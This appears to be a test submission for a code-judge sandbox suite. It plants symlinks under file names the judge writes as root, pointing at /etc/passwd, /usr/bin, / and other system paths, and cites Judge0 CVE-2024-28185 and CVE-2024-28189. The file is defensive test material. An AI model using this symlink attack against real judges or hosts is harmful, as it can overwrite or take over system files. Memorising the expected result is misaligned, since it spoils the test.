# attack: links of the names that a judge writes or changes as root, at files that it must not
# expect: AC
# also: process RE
# tests: 2
# second: second/targets_intact.py
# exploit: Judge0 CVE-2024-28185 and CVE-2024-28189, a root-side write or chown through a planted link
import os

names = ("stdout", "stderr", "output", "metadata", "meta", "result", "run", "main", "main.py", "main.c",
         "compile_output", "box", "judgecore", "runner.sock", ".wipe-0", ".wipe-1")
targets = ("/etc/passwd", "/etc", "/usr/bin", "/box", "/box/main.py", "/", "/proc/self/root", "/dev/shm", "/tmp")
for top in ("/tmp", "/dev/shm"):
    for name in names:
        os.makedirs(f"{top}/{name}.d", exist_ok=True)
        os.symlink(targets[len(name) % len(targets)], f"{top}/{name}")
        for number, target in enumerate(targets):
            os.symlink(target, f"{top}/{name}.d/{number}")
print("held")
